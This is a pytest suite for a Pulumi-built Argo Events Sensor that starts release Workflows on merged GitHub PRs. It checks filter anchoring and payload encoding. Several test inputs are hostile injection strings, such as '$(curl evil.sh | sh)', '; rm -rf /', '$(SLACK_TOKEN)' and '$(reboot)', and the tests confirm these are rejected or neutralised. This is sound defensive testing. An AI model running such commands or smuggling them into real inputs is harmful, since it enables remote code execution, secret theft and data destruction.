"""Tests of components/sensors.py: the Sensor builder, the component under mocks, whole stacks.

The builder is checked for its shape (names, pod, filters, trigger). The built Sensor of
every service in every stack, and after wiring the rendered one, receives the real GitHub
payloads of upstream/github-webhooks through tests.checks.sensor_sim (Argo Events' own filter and
parameter semantics): exactly the merged PR into the environment's branch of the
service's repository creates one Workflow, with the contract's name, namespace,
template and arguments; nothing else does. The created Workflow is linted with
workflow_lint, the Sensor validated against the upstream schema.
"""

from __future__ import annotations

import base64
import copy
import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pulumi
import pulumi_kubernetes as k8s
import pytest

from components import events, intake, names, sensors
from components.config import STACKS, Service, Settings, load_services, load_stack_settings
from tests.conftest import SERVICES_FILE, UPSTREAM
from tests.harness import run_under_mocks

PROJECT_DIR = Path(__file__).resolve().parent.parent
FIXTURES = UPSTREAM / "github-webhooks"
SENSOR_TYPE = "kubernetes:argoproj.io/v1alpha1:Sensor"

Manifest = dict[str, Any]


def stack_settings(stack: str = "dev") -> Settings:
    return load_stack_settings(PROJECT_DIR, stack)


def stack_services(stack: str) -> list[Service]:
    return load_services(SERVICES_FILE).for_environment(stack)


def service(repo: str = "Appen/sid_verification_backend_api", name: str = "vbsiv", **extra: Any) -> Service:
    return Service.model_validate({
        "name": name, "repo": repo, "imageRepository": name, "namespace": "team",
        "project": "team", "helm": {"repo": "Appen-International/helm", "path": f"app/{name}"}, **extra,
    })


def with_branch(settings: Settings, branch: str) -> Settings:
    data = settings.model_dump()
    data["branch"] = branch
    return Settings.model_validate(data)


def string_filters(sensor: Manifest) -> list[dict[str, Any]]:
    return [f for d in sensor["spec"]["dependencies"] for f in d["filters"]["data"] if f["type"] == "string"]


def dependency(sensor: Manifest, name: str) -> dict[str, Any]:
    return next(d for d in sensor["spec"]["dependencies"] if d["name"] == name)


def filter_values(sensor: Manifest, dep: str) -> dict[str, list[str]]:
    return {f["path"]: f["value"] for f in dependency(sensor, dep)["filters"]["data"]}


# ------------------------------------------------------------------ pure builder


def test_go_quote_meta_escapes_what_go_escapes_and_nothing_else() -> None:
    assert sensors.go_quote_meta(r"a.b+c*d?e(f)g|h[i]j{k}l^m$n\o") == r"a\.b\+c\*d\?e\(f\)g\|h\[i\]j\{k\}l\^m\$n\\o"
    # Python's re.escape would escape these, and Go rejects "\ " (and needs none of them).
    assert sensors.go_quote_meta("feature/x-y_z #1") == "feature/x-y_z #1"
    assert sensors.exactly("release.1") == r"^release\.1$"
    assert sensors.repository_pattern("Appen/my.repo") == r"^(?i:Appen/my\.repo)$"


def test_sensor_names_namespace_bus_and_pod() -> None:
    settings = stack_settings("live")
    sensor = sensors.sensor_manifest(service(), settings)
    assert (sensor["apiVersion"], sensor["kind"]) == ("argoproj.io/v1alpha1", "Sensor")
    assert sensor["metadata"]["name"] == "vbsiv"
    assert sensor["metadata"]["namespace"] == settings.namespaces.events
    spec = sensor["spec"]
    assert spec["eventBusName"] == events.EVENTBUS_NAME
    assert spec["replicas"] == settings.sizes.sensor.replicas
    template = spec["template"]
    assert template["serviceAccountName"] == names.SENSOR_SERVICE_ACCOUNT
    assert template["container"]["resources"] == settings.sizes.sensor.resources.model_dump()
    assert template["securityContext"]["runAsNonRoot"] is True
    assert template["securityContext"]["seccompProfile"] == {"type": "RuntimeDefault"}
    assert template["container"]["securityContext"] == {
        "allowPrivilegeEscalation": False,
        "capabilities": {"drop": ["ALL"]},
        "readOnlyRootFilesystem": True,
        "runAsNonRoot": True,
    }


def test_merged_dependency_listens_to_the_repository_event() -> None:
    svc = service()
    sensor = sensors.sensor_manifest(svc, stack_settings())
    assert [d["name"] for d in sensor["spec"]["dependencies"]] == ["merged"]
    merged = dependency(sensor, "merged")
    assert merged["eventSourceName"] == intake.EVENTSOURCE_NAME
    assert merged["eventName"] == intake.event_name(svc.repo)
    assert filter_values(sensor, "merged") == {
        "headers.X-Github-Event.0": ["^pull_request$"],
        "body.action": ["^closed$"],
        "body.pull_request.merged": ["true"],
        "body.pull_request.base.ref": ["^development$"],
        "body.repository.full_name": ["^(?i:Appen/sid_verification_backend_api)$"],
        "body.pull_request.merge_commit_sha": ["^[0-9a-f]{40}$"],
        "body.pull_request.number": ["^[1-9][0-9]{0,9}$"],
    }
    assert "conditions" not in sensor["spec"]["triggers"][0]["template"]


@pytest.mark.parametrize("on_push", [False, True])
def test_every_string_filter_is_anchored_and_every_bool_a_string(on_push: bool) -> None:
    sensor = sensors.sensor_manifest(service(trigger_on_push=on_push), with_branch(stack_settings(), "rel.1"))
    for f in string_filters(sensor):
        assert all(v.startswith("^") and v.endswith("$") for v in f["value"]), f
    for d in sensor["spec"]["dependencies"]:
        assert d.get("filtersLogicalOperator", "and") == "and"
        assert d["filters"].get("dataLogicalOperator", "and") == "and"
        for f in d["filters"]["data"]:
            assert all(isinstance(v, str) and v for v in f["value"]), f
            assert "comparator" not in f and "template" not in f
    assert filter_values(sensor, "merged")["body.pull_request.base.ref"] == [r"^rel\.1$"]


def test_push_dependency_only_when_asked() -> None:
    svc = service(trigger_on_push=True)
    sensor = sensors.sensor_manifest(svc, stack_settings("integration"))
    assert [d["name"] for d in sensor["spec"]["dependencies"]] == ["merged", "pushed"]
    assert dependency(sensor, "pushed")["eventName"] == intake.event_name(svc.repo)
    assert filter_values(sensor, "pushed") == {
        "headers.X-Github-Event.0": ["^push$"],
        "body.ref": ["^refs/heads/release$"],
        "body.repository.full_name": ["^(?i:Appen/sid_verification_backend_api)$"],
        "body.deleted": ["false"],
        "body.after": ["^[0-9a-f]{40}$"],
    }
    assert sensor["spec"]["triggers"][0]["template"]["conditions"] == "merged || pushed"


def test_one_k8s_create_trigger_of_the_contract_workflow() -> None:
    settings = stack_settings("sandbox")
    sensor = sensors.sensor_manifest(service(), settings)
    [trigger] = sensor["spec"]["triggers"]
    assert trigger["template"]["name"] == sensors.TRIGGER_NAME
    assert trigger["atLeastOnce"] is True  # without it, retryStrategy never sees an error
    assert trigger["retryStrategy"] == {"steps": 3, "duration": "2s", "factor": 2, "jitter": 0.2}
    assert "policy" not in trigger
    k8s_trigger = trigger["template"]["k8s"]
    assert k8s_trigger["operation"] == "create"
    assert k8s_trigger["source"]["resource"] == {
        "apiVersion": "argoproj.io/v1alpha1",
        "kind": "Workflow",
        "metadata": {
            "name": names.workflow_name_prefix("vbsiv", "sandbox"),
            "namespace": settings.namespaces.workflows,
            "labels": {"release-pipeline/service": "vbsiv", "release-pipeline/environment": "sandbox"},
        },
        "spec": {
            "workflowTemplateRef": {"name": names.release_template_name("vbsiv")},
            "arguments": {"parameters": [{"name": a, "value": ""} for a in
                                         ("revision", "pr-number", "pr-title", "author", "repository", "trigger")]},
        },
    }


ENCODED_TEMPLATE = re.compile(r"^b64:\{\{ \.Input\.[A-Za-z0-9_.]+ \| toString \| b64enc \}\}$")


@pytest.mark.parametrize("on_push", [False, True])
def test_payload_text_is_encoded_and_only_shape_checked_values_go_plain(on_push: bool) -> None:
    sensor = sensors.sensor_manifest(service(trigger_on_push=on_push), stack_settings())
    params = sensor["spec"]["triggers"][0]["template"]["k8s"]["parameters"]
    assert "parameters" not in sensor["spec"]["triggers"][0]  # nothing patches the trigger itself
    argument = {f"spec.arguments.parameters.{i}.value": a for i, a in enumerate(sensors.ARGUMENTS)}
    filtered = {path for d in sensor["spec"]["dependencies"] for path, _ in
                [(f["path"], f["value"]) for f in d["filters"]["data"]]}
    for p in params:
        src = p["src"]
        assert set(src) <= {"dependencyName", "dataKey", "dataTemplate"}, p
        assert ("dataKey" in src) != ("dataTemplate" in src), p
        name = argument.get(p["dest"], p["dest"])
        if "dataKey" in src:
            # Plain only where a filter holds the value to a shape (hex sha, digits).
            assert name in {"revision", "pr-number", "metadata.name"}, p
            assert src["dataKey"] in filtered, p
        elif name == "trigger":
            assert src["dataTemplate"] in {"pull_request", "push"}
        else:
            assert name in {"pr-title", "author", "repository"}, p
            assert ENCODED_TEMPLATE.fullmatch(src["dataTemplate"]), p
    names_ = [p for p in params if p["dest"] == "metadata.name"]
    assert [(p["operation"], p["src"]["dataKey"]) for p in names_] == (
        [("append", "body.pull_request.merge_commit_sha")] + ([("append", "body.after")] if on_push else [])
    )
    # Nothing the payload says reaches the manifest itself.
    assert "{{" not in json.dumps(sensor["spec"]["triggers"][0]["template"]["k8s"]["source"])


def test_constants_cannot_be_templates() -> None:
    with pytest.raises(ValueError, match="template"):
        sensors.Constant("{{ .Input.body.ref }}")


def test_payload_text_cannot_be_taken_plain() -> None:
    with pytest.raises(ValueError, match="payload text"):
        sensors._parameters("merged", {"pr-title": "body.pull_request.title"}, sensors.PR_REVISION)
    with pytest.raises(ValueError, match="plain keys"):
        sensors.Encoded("body.pull_request.title }}{{ .Input")


def test_workflow_name_fits_a_label_for_long_service_names() -> None:
    long_name = "a-very-long-service-name-that-is-fifty-characters"
    sensor = sensors.sensor_manifest(service(name=long_name), stack_settings("integration"))
    prefix = sensor["spec"]["triggers"][0]["template"]["k8s"]["source"]["resource"]["metadata"]["name"]
    assert len(prefix + "0" * 40) <= 63
    assert prefix + "0" * 40 == names.workflow_name(long_name, "integration", "0" * 40)


def test_builder_is_deterministic() -> None:
    svc, settings = service(trigger_on_push=True), stack_settings()
    assert json.dumps(sensors.sensor_manifest(svc, settings)) == json.dumps(sensors.sensor_manifest(svc, settings))


# ------------------------------------------------- deliveries through sensor_sim


def fixture(name: str) -> dict[str, Any]:
    return json.loads((FIXTURES / name).read_text(encoding="utf-8"))  # type: ignore[no-any-return]


def pull_request(name: str = "pull_request.closed-merged.json", *, base: str, repo: str,
                 **pr: Any) -> dict[str, Any]:
    """A real PR payload, retargeted at `base` of `repo` (the payloads all merge into `master`)."""
    payload = fixture(name)
    payload["pull_request"]["base"]["ref"] = base
    payload["repository"]["full_name"] = repo
    payload["pull_request"].update(pr)
    return payload


def push(*, branch: str, repo: str, **changes: Any) -> dict[str, Any]:
    payload = fixture("push.branch.json")
    payload["ref"] = f"refs/heads/{branch}"
    payload["repository"]["full_name"] = repo
    payload.update(changes)
    return payload


def deliver(sensor: Manifest, svc: Service, payload: dict[str, Any], event: str) -> list[Manifest]:
    """Workflows the Sensor creates for one delivery to the service's repository event."""
    from tests.checks.sensor_sim import fire, github_headers

    return fire(sensor, intake.EVENTSOURCE_NAME, intake.event_name(svc.repo), payload,  # type: ignore[no-any-return]
                github_headers(event), strict=True)


def expected_workflow(svc: Service, settings: Settings, revision: str, arguments: dict[str, str]) -> Manifest:
    return {
        "name": names.workflow_name(svc.name, settings.environment, revision),
        "namespace": settings.namespaces.workflows,
        "template": names.release_template_name(svc.name),
        "labels": {"release-pipeline/service": svc.name, "release-pipeline/environment": settings.environment},
        "arguments": {"revision": revision, **arguments},
    }


def summary(workflow: Manifest) -> Manifest:
    meta = workflow["metadata"]
    return {
        "name": meta["name"],
        "namespace": meta["namespace"],
        "template": workflow["spec"]["workflowTemplateRef"]["name"],
        "labels": {k: v for k, v in meta["labels"].items() if k.startswith("release-pipeline/")},
        "arguments": {p["name"]: p["value"] for p in workflow["spec"]["arguments"]["parameters"]},
    }


def b64(text: str) -> str:
    """An encoded argument as the Sensor renders it: `b64:` + base64 of the UTF-8 text."""
    return "b64:" + base64.b64encode(text.encode()).decode()


MERGED = {"sha": "c4295bd74fb0f4fda03689c3df3f2803b658fd85", "title": "Update the README with new information.",
          "author": "Codertocat"}


def stack_cases() -> list[tuple[str, str]]:
    return [(stack, s.name) for stack in STACKS for s in stack_services(stack)]


@pytest.mark.parametrize(("stack", "name"), stack_cases())
def test_merged_pr_into_the_branch_starts_one_release(stack: str, name: str) -> None:
    settings = stack_settings(stack)
    svc = next(s for s in stack_services(stack) if s.name == name)
    sensor = sensors.sensor_manifest(svc, settings)
    created = deliver(sensor, svc, pull_request(base=settings.branch, repo=svc.repo), "pull_request")
    assert [summary(w) for w in created] == [expected_workflow(svc, settings, MERGED["sha"], {
        "pr-number": "2", "pr-title": b64(MERGED["title"]), "author": b64(MERGED["author"]),
        "repository": b64(svc.repo), "trigger": "pull_request",
    })]
    assert created[0]["kind"] == "Workflow"


Change = str | Callable[[str], str] | None


def _not_firing_cases() -> list[tuple[str, Callable[[str, str], tuple[dict[str, Any], str]]]]:
    def pr(name: str = "pull_request.closed-merged.json", **pr_fields: Any) -> Callable[..., Any]:
        return lambda branch, repo: (pull_request(name, base=branch, repo=repo, **pr_fields), "pull_request")

    def retarget(branch: Change = None, repo: Change = None) -> Callable[..., Any]:
        def value(change: Change, current: str) -> str:
            return change(current) if callable(change) else change or current

        return lambda b, r: (pull_request(base=value(branch, b), repo=value(repo, r)), "pull_request")

    def other_event(fixture_name: str, event: str) -> Callable[..., Any]:
        def make(branch: str, repo: str) -> tuple[dict[str, Any], str]:
            payload = fixture(fixture_name)
            payload["repository"]["full_name"] = repo
            if "pull_request" in payload:
                payload["pull_request"]["base"]["ref"] = branch
            return payload, event
        return make

    def merged_as(event: str) -> Callable[..., Any]:
        return lambda b, r: (pull_request(base=b, repo=r), event)

    return [
        ("closed unmerged", pr("pull_request.closed.json")),
        ("opened", pr("pull_request.opened.json")),
        ("synchronize", pr("pull_request.synchronize.json")),
        ("review comment", other_event("pull_request_review_comment.edited.json", "pull_request_review_comment")),
        ("merged payload under another event header", merged_as("pull_request_review")),
        ("ping", other_event("ping.json", "ping")),
        ("push (push trigger off)", lambda b, r: (push(branch=b, repo=r), "push")),
        ("other branch", retarget(branch="master")),
        ("branch with a suffix", retarget(branch=lambda b: f"{b}-old")),
        ("branch with a prefix", retarget(branch=lambda b: f"feature/{b}")),
        ("branch with a trailing newline", retarget(branch=lambda b: f"{b}\n")),
        ("branch in another case", retarget(branch=lambda b: b.upper())),
        ("other repository", retarget(repo="Codertocat/Hello-World")),
        ("repository with a suffix", retarget(repo=lambda r: f"{r}-fork")),
        ("repository with a prefix", retarget(repo=lambda r: f"evil/{r}")),
        ("repository of another owner", retarget(repo=lambda r: "someone-else/" + r.split("/")[1])),
        ("non-hex merge sha", pr(merge_commit_sha="$(curl evil.sh | sh)")),
        ("short merge sha", pr(merge_commit_sha="c4295bd")),
        ("upper-case merge sha", pr(merge_commit_sha="C4295BD74FB0F4FDA03689C3DF3F2803B658FD85")),
        ("merge sha with a suffix", pr(merge_commit_sha="c4295bd74fb0f4fda03689c3df3f2803b658fd85; rm -rf /")),
        ("merged is a string", pr(merged="yes")),
        ("PR number is text", pr(number="$(SLACK_TOKEN)")),
        ("PR number is negative", pr(number=-2)),
        ("PR number is a fraction", pr(number=2.5)),
    ]


NOT_FIRING = _not_firing_cases()


@pytest.mark.parametrize("stack", STACKS)
@pytest.mark.parametrize(("case", "make"), NOT_FIRING, ids=[c for c, _ in NOT_FIRING])
def test_nothing_else_starts_a_release(stack: str, case: str, make: Callable[..., Any]) -> None:
    settings = stack_settings(stack)
    for svc in stack_services(stack):
        payload, event = make(settings.branch, svc.repo)
        assert deliver(sensors.sensor_manifest(svc, settings), svc, payload, event) == [], (case, svc.name)


def test_repository_name_matches_in_any_case_but_literally() -> None:
    svc, settings = service(repo="Appen/my.repo"), stack_settings()
    sensor = sensors.sensor_manifest(svc, settings)
    assert len(deliver(sensor, svc, pull_request(base="development", repo="appen/MY.REPO"), "pull_request")) == 1
    # "." is literal: a regexp wildcard would let this one through.
    assert deliver(sensor, svc, pull_request(base="development", repo="Appen/myXrepo"), "pull_request") == []


def test_branch_metacharacters_are_literal() -> None:
    svc, settings = service(), with_branch(stack_settings(), "release.1")
    sensor = sensors.sensor_manifest(svc, settings)
    assert len(deliver(sensor, svc, pull_request(base="release.1", repo=svc.repo), "pull_request")) == 1
    assert deliver(sensor, svc, pull_request(base="releaseX1", repo=svc.repo), "pull_request") == []


def test_a_merge_into_main_starts_only_the_live_release() -> None:
    svc = service()
    fired = {
        stack: len(deliver(sensors.sensor_manifest(svc, stack_settings(stack)), svc,
                           pull_request(base="main", repo=svc.repo), "pull_request"))
        for stack in STACKS
    }
    assert fired == {"dev": 0, "sandbox": 0, "integration": 0, "live": 1}


def test_large_pr_numbers_arrive_as_plain_digits() -> None:
    svc, settings = service(), stack_settings()
    sensor = sensors.sensor_manifest(svc, settings)
    [workflow] = deliver(sensor, svc, pull_request(base="development", repo=svc.repo, number=279147437),
                         "pull_request")
    assert summary(workflow)["arguments"]["pr-number"] == "279147437"


HOSTILE_TITLE = ("$(SLACK_TOKEN) $(curl evil.sh | sh) `id` \"quoted\" 'single' {{workflow.name}} "
                 "{{=sprig.b64enc('x')}} {{ .Input.body }}\nsecond line\u202e; rm -rf / #")
HOSTILE_LOGIN = "x$(id)`whoami`"


def test_payload_text_arrives_encoded_in_its_argument_only() -> None:
    svc, settings = service(), stack_settings()
    sensor = sensors.sensor_manifest(svc, settings)
    payload = pull_request(base="development", repo=svc.repo, title=HOSTILE_TITLE)
    payload["pull_request"]["user"]["login"] = HOSTILE_LOGIN
    [workflow] = deliver(sensor, svc, payload, "pull_request")
    arguments = summary(workflow)["arguments"]
    # Byte-exact after decoding; the template engine ran over none of it.
    assert arguments["pr-title"] == b64(HOSTILE_TITLE)
    assert arguments["author"] == b64(HOSTILE_LOGIN)
    for value in arguments.values():
        assert not set(value) & set("$(){}`\n\u202e"), value
    assert workflow["metadata"]["name"] == names.workflow_name(svc.name, "dev", MERGED["sha"])
    # Nowhere else in the created object: remove the two arguments, then look for any part.
    rest = copy.deepcopy(workflow)
    rest["spec"]["arguments"]["parameters"] = [p for p in rest["spec"]["arguments"]["parameters"]
                                               if p["name"] not in {"pr-title", "author"}]
    text = json.dumps(rest)
    for fragment in ("curl", "evil", "rm -rf", "second line", "whoami", "$(id)", "{{"):
        assert fragment not in text


@pytest.mark.parametrize("text", ["", "é ✓ 漢字", "{{ .Input.body.pull_request.title }}", "x" * 300])
def test_encoded_text_survives_any_content(text: str) -> None:
    """Empty text still renders (upstream refuses an empty template result), Unicode is UTF-8."""
    svc = service(trigger_on_push=True)
    sensor = sensors.sensor_manifest(svc, stack_settings())
    [workflow] = deliver(sensor, svc, pull_request(base="development", repo=svc.repo, title=text), "pull_request")
    assert summary(workflow)["arguments"]["pr-title"] == b64(text)
    pushed = push(branch="development", repo=svc.repo)
    pushed["pusher"]["name"] = text
    [workflow] = deliver(sensor, svc, pushed, "push")
    assert summary(workflow)["arguments"]["author"] == b64(text)


@pytest.mark.parametrize("stack", STACKS)
def test_push_starts_a_release_only_when_enabled(stack: str) -> None:
    settings = stack_settings(stack)
    svc = service(trigger_on_push=True)
    sensor = sensors.sensor_manifest(svc, settings)
    after = fixture("push.branch.json")["after"]
    created = deliver(sensor, svc, push(branch=settings.branch, repo=svc.repo), "push")
    assert [summary(w) for w in created] == [expected_workflow(svc, settings, after, {
        "pr-number": "", "pr-title": "", "author": b64("Codertocat"), "repository": b64(svc.repo),
        "trigger": "push",
    })]
    # A merged PR still fires, with its own values (no constant of the push leaks in).
    [merged] = deliver(sensor, svc, pull_request(base=settings.branch, repo=svc.repo), "pull_request")
    assert summary(merged)["arguments"]["trigger"] == "pull_request"
    # Off: the same push does nothing.
    assert deliver(sensors.sensor_manifest(service(), settings), svc,
                   push(branch=settings.branch, repo=svc.repo), "push") == []


PUSH_NOT_FIRING: list[tuple[str, Callable[[], dict[str, Any]]]] = [
    ("other branch", lambda: push(branch="master", repo=service().repo)),
    ("branch with a suffix", lambda: push(branch="development-old", repo=service().repo)),
    ("branch with a prefix", lambda: push(branch="feature/development", repo=service().repo)),
    ("tag", lambda: push(branch="development", repo=service().repo, ref="refs/tags/development")),
    ("other repository", lambda: push(branch="development", repo="Appen/sid_verification_backend_api-fork")),
    ("branch deleted", lambda: push(branch="development", repo=service().repo, deleted=True, after="0" * 40)),
    ("non-hex after", lambda: push(branch="development", repo=service().repo, after="$(reboot)")),
]


@pytest.mark.parametrize(("case", "payload"), PUSH_NOT_FIRING, ids=[c for c, _ in PUSH_NOT_FIRING])
def test_push_filters_are_exact(case: str, payload: Callable[[], dict[str, Any]]) -> None:
    svc = service(trigger_on_push=True)
    assert deliver(sensors.sensor_manifest(svc, stack_settings()), svc, payload(), "push") == [], case


def test_tag_deletion_fixture_does_not_start_a_release() -> None:
    svc = service(trigger_on_push=True)
    payload = fixture("push.tag.json")
    payload["repository"]["full_name"] = svc.repo
    assert deliver(sensors.sensor_manifest(svc, stack_settings()), svc, payload, "push") == []


def test_a_merge_seen_as_pr_and_as_push_names_one_workflow() -> None:
    """Both deliveries create the same name: the second create is AlreadyExists, one build."""
    from tests.checks.sensor_sim import SensorSimulator, github_headers

    svc = service(trigger_on_push=True)
    sensor = sensors.sensor_manifest(svc, stack_settings())
    simulator = SensorSimulator(sensor)
    event = intake.event_name(svc.repo)
    sha = MERGED["sha"]
    first = simulator.send(intake.EVENTSOURCE_NAME, event, push(branch="development", repo=svc.repo, after=sha),
                           github_headers("push"))
    second = simulator.send(intake.EVENTSOURCE_NAME, event, pull_request(base="development", repo=svc.repo),
                            github_headers("pull_request"))
    created = first.objects + second.objects
    assert len(created) == 2  # the simulator does not model the API server's AlreadyExists
    assert {w["metadata"]["name"] for w in created} == {names.workflow_name(svc.name, "dev", sha)}


def _sensor_variants() -> list[tuple[str, Service]]:
    variants: list[tuple[str, Service]] = [(stack, svc) for stack in STACKS for svc in stack_services(stack)]
    return [
        *variants,
        ("dev", service(trigger_on_push=True)),
        ("live", service(repo="Appen/my.repo", trigger_on_push=True)),
    ]


def test_lint_sensor_has_no_warnings() -> None:
    from tests.checks.sensor_sim import lint_sensor, validate_sensor

    for stack, svc in _sensor_variants():
        sensor = sensors.sensor_manifest(svc, stack_settings(stack))
        validate_sensor(sensor)
        assert lint_sensor(sensor, "github") == [], (stack, svc.name)


def test_sensors_validate_against_the_upstream_schema() -> None:
    from tests.checks.validate_manifests import validate_objects

    built = [sensors.sensor_manifest(svc, stack_settings(stack)) for stack, svc in _sensor_variants()]
    assert [p for p in validate_objects(built) if p.severity != "skipped"] == []


def minimal_release_template(svc: Service, settings: Settings) -> Manifest:
    """Stands in for the release WorkflowTemplate: it declares the contract's six parameters."""
    return {
        "apiVersion": "argoproj.io/v1alpha1",
        "kind": "WorkflowTemplate",
        "metadata": {"name": names.release_template_name(svc.name), "namespace": settings.namespaces.workflows},
        "spec": {
            "entrypoint": "release",
            "arguments": {"parameters": [{"name": a} for a in sensors.ARGUMENTS]},
            "templates": [{"name": "release", "container": {"image": "busybox:1.37", "command": ["true"]}}],
        },
    }


@pytest.mark.parametrize("event", ["pull_request", "push"])
def test_created_workflow_lints_against_the_contract_template(event: str) -> None:
    from tests.checks.workflow_lint import lint

    svc, settings = service(trigger_on_push=True), stack_settings()
    payload = (pull_request(base="development", repo=svc.repo) if event == "pull_request"
               else push(branch="development", repo=svc.repo))
    [workflow] = deliver(sensors.sensor_manifest(svc, settings), svc, payload, event)
    assert lint(workflow, [minimal_release_template(svc, settings)]) == []


# ------------------------------------------------------------ component (mocks)


def run_component(svc: Service) -> list[dict[str, Any]]:
    def program() -> pulumi.Output[Any]:
        settings = stack_settings()
        ns = k8s.core.v1.Namespace("events-ns", metadata={"name": settings.namespaces.events})
        crd = k8s.apiextensions.v1.CustomResourceDefinition(
            "sensors-crd", metadata={"name": "sensors.argoproj.io"},
            spec={"group": "argoproj.io", "names": {"kind": "Sensor", "plural": "sensors"},
                  "scope": "Namespaced", "versions": []},
        )
        intake_ = events.EventIntake("intake", events.EventIntakeArgs(
            settings=settings, repos=[svc.repo], namespace=ns.metadata.name,
        ))
        component = sensors.ServiceSensor(svc.name, sensors.ServiceSensorArgs(
            service=svc, settings=settings, namespace=ns.metadata.name,
            eventbus_name=intake_.eventbus_name, eventsource_name=intake_.eventsource_name,
            depends_on=[crd],
        ))
        return component.sensor.urn

    return run_under_mocks(program)


def test_component_registers_the_built_sensor_after_what_it_uses() -> None:
    svc = service(trigger_on_push=True)
    records = run_component(svc)
    [record] = [r for r in records if r["type"] == SENSOR_TYPE]
    assert record["name"] == "vbsiv-sensor"
    assert record["parent"] == "vbsiv"
    assert next(r for r in records if r["name"] == "vbsiv")["type"] == sensors.TYPE
    # The CRD (passed in), the namespace, and the bus and source (through the name Outputs).
    assert {"sensors-crd", "events-ns", "intake-eventbus", "intake-eventsource"} <= set(record["options"]["depends_on"])
    manifest = sensors.sensor_manifest(svc, stack_settings())
    inputs = record["inputs"]
    assert (inputs["apiVersion"], inputs["kind"]) == ("argoproj.io/v1alpha1", "Sensor")
    assert inputs["metadata"] == manifest["metadata"]
    assert _numbers(inputs["spec"]) == manifest["spec"]


def _numbers(value: Any) -> Any:
    """The wire turns every number into a float; compare with the builder's ints."""
    if isinstance(value, dict):
        return {k: _numbers(v) for k, v in value.items()}
    if isinstance(value, list):
        return [_numbers(v) for v in value]
    if isinstance(value, float) and value.is_integer():
        return int(value)
    return value


# -------------------------------------------------------------- whole stacks


def rendered_sensors(render_stack: Callable[..., Any], stack: str) -> tuple[list[Any], dict[str, Manifest]]:
    resources, manifests = render_stack(stack)
    found = {m["metadata"]["name"]: m for m in manifests if m["kind"] == "Sensor"}
    if not found and stack_services(stack):
        pytest.skip("the program does not register the Sensors yet (__main__.py)")
    return resources, found


@pytest.mark.parametrize("stack", STACKS)
def test_stack_has_one_sensor_per_service_as_built(render_stack: Callable[..., Any], stack: str) -> None:
    settings = stack_settings(stack)
    resources, found = rendered_sensors(render_stack, stack)
    services = stack_services(stack)
    assert sorted(found) == sorted(s.name for s in services)
    for svc in services:
        assert found[svc.name] == sensors.sensor_manifest(svc, settings)
    for record in (r for r in resources if r["type"] == SENSOR_TYPE):
        parent = next(r for r in resources if r["name"] == record["parent"])
        assert parent["type"] == sensors.TYPE
        assert {"crds-argo-events-sensors", "platform-argo-events"} <= set(record["options"]["depends_on"])


@pytest.mark.parametrize("stack", STACKS)
def test_rendered_sensors_start_exactly_their_release(render_stack: Callable[..., Any], stack: str) -> None:
    from tests.checks.validate_manifests import validate_objects
    from tests.checks.workflow_lint import lint

    settings = stack_settings(stack)
    _, manifests = render_stack(stack)
    _, found = rendered_sensors(render_stack, stack)
    assert [p for p in validate_objects(list(found.values())) if p.severity != "skipped"] == []
    templates = [m for m in manifests if m["kind"] == "WorkflowTemplate"]
    for svc in stack_services(stack):
        sensor = found[svc.name]
        [workflow] = deliver(sensor, svc, pull_request(base=settings.branch, repo=svc.repo), "pull_request")
        assert summary(workflow)["name"] == names.workflow_name(svc.name, stack, MERGED["sha"])
        # Against the real, rendered release WorkflowTemplate of this service.
        real = [t for t in templates if t["metadata"]["name"] == names.release_template_name(svc.name)]
        assert len(real) == 1
        assert lint(real[0]) == []
        assert lint(workflow, real) == []
        for case, make in NOT_FIRING:
            payload, event = make(settings.branch, svc.repo)
            assert deliver(sensor, svc, payload, event) == [], case
        # Every other environment's branch: no release here.
        for other in STACKS:
            if other != stack:
                payload = pull_request(base=stack_settings(other).branch, repo=svc.repo)
                assert deliver(sensor, svc, payload, "pull_request") == [], other


def test_no_string_filter_in_the_module_is_unanchored() -> None:
    """A guard against a future filter written without `exactly()`."""
    source = (PROJECT_DIR / "components" / "sensors.py").read_text(encoding="utf-8")
    for call in re.findall(r"_string\(([^\n]+)\)", source):
        if call.startswith("path: str"):
            continue
        assert re.search(r"exactly\(|repository_pattern\(|SHA\b|PR_NUMBER\b", call), call
